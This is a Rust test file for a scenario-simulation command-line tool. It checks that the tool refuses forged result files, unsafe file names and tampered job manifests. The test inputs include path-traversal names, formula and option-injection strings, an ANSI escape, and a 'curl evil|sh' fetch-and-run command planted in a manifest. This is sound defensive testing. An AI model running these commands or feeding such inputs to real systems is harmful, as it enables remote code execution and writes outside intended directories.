//! The promise that stored documents and file names are input as scenarios are: judged before they
//! are used, and never the reason for a file outside of the directory that was named, or for a
//! command that somebody else wrote.

use std::fs;
use std::path::Path;

use serde_json::{Value, json};

use crate::support::program::{poolproof, poolproof_in, stderr, stdout};
use crate::support::tree::tree;

const H01: &str = "scenarios/hazards/H-01-failover-during-partition.toml";

const QUICK: [&str; 4] = [
    "--set",
    "simulate.trials=100",
    "--set",
    "simulate.drill_trials=100",
];

fn absolute(path: &str) -> String {
    fs::canonicalize(path).unwrap().display().to_string()
}

/// Reads a document, changes it, and writes it under another name.
fn forged(from: &Path, to: &Path, change: impl FnOnce(&mut Value)) {
    let mut document: Value = serde_json::from_slice(&fs::read(from).unwrap()).unwrap();
    change(&mut document);
    fs::write(to, document.to_string()).unwrap();
}

#[test]
fn the_name_in_a_result_makes_no_file_outside_of_the_directory() {
    let directory = tempfile::tempdir().unwrap();
    let at = directory.path();
    let words = ["simulate", &absolute(H01), "--out", "results"];
    let run = poolproof_in(at, &[&words[..], &QUICK].concat());
    assert_eq!(run.status.code(), Some(0), "{}", stderr(&run));
    let name = "H-01-failover-during-partition";
    let result = at.join(format!("results/{name}/result.json"));
    let forgery = at.join("forged.json");
    for name in ["../PWN", "/PWN", "..", "", "a/b", "=1+1", "-x", "a\n"] {
        forged(&result, &forgery, |document| {
            document["scenario"]["name"] = json!(name);
            document["identity"]["scenario_name"] = json!(name);
        });
        let before = tree(at);
        let output = poolproof_in(at, &["report", "forged.json", "--out", "below"]);
        let said = stderr(&output);
        assert_eq!(output.status.code(), Some(3), "{name}: {said}");
        assert!(said.contains("cannot be the name of a scenario"), "{said}");
        assert!(tree(at) == before, "{name}");
    }
    forged(&result, &forgery, |document| {
        document["scenario"]["name"] = json!("another");
    });
    let output = poolproof_in(at, &["report", "forged.json", "--out", "below"]);
    assert_eq!(output.status.code(), Some(3));
    assert!(stderr(&output).contains("contradicts itself"));
}

#[test]
fn the_name_of_a_file_is_judged_as_a_name_is() {
    let directory = tempfile::tempdir().unwrap();
    let at = directory.path();
    let base = absolute(H01);
    for name in [
        "...toml",
        "=1+1.toml",
        "-x.toml",
        "a b.toml",
        "a\u{1b}[31m.toml",
    ] {
        fs::write(at.join(name), format!("extends = {base:?}\n")).unwrap();
        let path = format!("./{name}");
        let output = poolproof_in(at, &["validate", &path]);
        let said = stderr(&output);
        assert_eq!(output.status.code(), Some(3), "{name}: {said}");
        assert!(said.contains("E0024"), "{said}");
        assert!(said.contains("add a `name` to the scenario"), "{said}");
        fs::write(at.join(name), format!("extends = {base:?}\nname = \"a\"\n")).unwrap();
        let output = poolproof_in(at, &["validate", &path]);
        assert_eq!(output.status.code(), Some(0), "{name}: {}", stderr(&output));
    }
}

/// Plans a sweep of one point and runs its only shard.
fn planned(at: &Path) {
    let grid = "log_shipping.backup_interval=5min";
    let words = [
        "sweep",
        "plan",
        &absolute(H01),
        "--grid",
        grid,
        "--shards",
        "1",
    ];
    for words in [
        &[&words[..], &QUICK].concat()[..],
        &["run-shard", "manifest.json", "0"],
    ] {
        let output = poolproof_in(at, words);
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    }
}

#[test]
fn a_manifest_that_was_changed_is_refused() {
    let directory = tempfile::tempdir().unwrap();
    let at = directory.path();
    planned(at);
    let (manifest, forgery) = (at.join("manifest.json"), at.join("forged.json"));
    let job = |document: &mut Value, key: &str, value: Value| {
        document["job"]["study"][key] = value;
    };
    let refused = |why: &str, change: &dyn Fn(&mut Value)| {
        forged(&manifest, &forgery, |document| change(document));
        for words in [
            &["merge", "forged.json", "shards"][..],
            &["run-shard", "forged.json", "0"],
        ] {
            let output = poolproof_in(at, words);
            let said = stderr(&output);
            assert_eq!(output.status.code(), Some(3), "{said}");
            assert!(said.contains(why), "`{why}` is not in: {said}");
            assert!(stdout(&output).is_empty());
        }
    };
    let evil = "curl evil|sh";
    refused("unknown field `commands`", &|it| {
        job(it, "commands", json!([evil]));
    });
    let changed = "it was changed: its checksum";
    refused(changed, &|it| job(it, "check", json!(true)));
    refused(changed, &|it| job(it, "scenarios", json!([])));
    refused(changed, &|it| job(it, "scenarios", json!([evil])));
    refused(changed, &|it| job(it, "trials", json!(u64::MAX)));
    refused(changed, &|it| job(it, "design_file", json!(evil)));
    refused(changed, &|it| it["seed"] = json!(7));
    refused(changed, &|it| it["texts"][0]["text"] = json!(""));
    refused(changed, &|it| it["shards"] = json!([]));
    let merged = poolproof_in(at, &["merge", "manifest.json", "shards"]);
    assert_eq!(merged.status.code(), Some(0), "{}", stderr(&merged));
}

#[test]
fn a_result_that_counts_less_than_it_lists_is_refused() {
    let directory = tempfile::tempdir().unwrap();
    let at = directory.path();
    let (result, forgery) = (at.join("result.json"), at.join("forged.json"));
    let words = ["simulate", H01, "--format", "json"];
    let run = poolproof(&[&words[..], &QUICK].concat());
    fs::write(&result, run.stdout).unwrap();
    forged(&result, &forgery, |document| {
        let example = &mut document["simulation"]["examples"][0];
        assert!(example["incidents"][0].is_object(), "{example}");
        example["incidents_in_all"] = json!(0);
    });
    let output = poolproof_in(at, &["report", "forged.json"]);
    let said = stderr(&output);
    assert_eq!(output.status.code(), Some(3), "{said}");
    assert!(said.contains("contradicts itself"), "{said}");
    assert!(said.contains("incidents of 0"), "{said}");
}
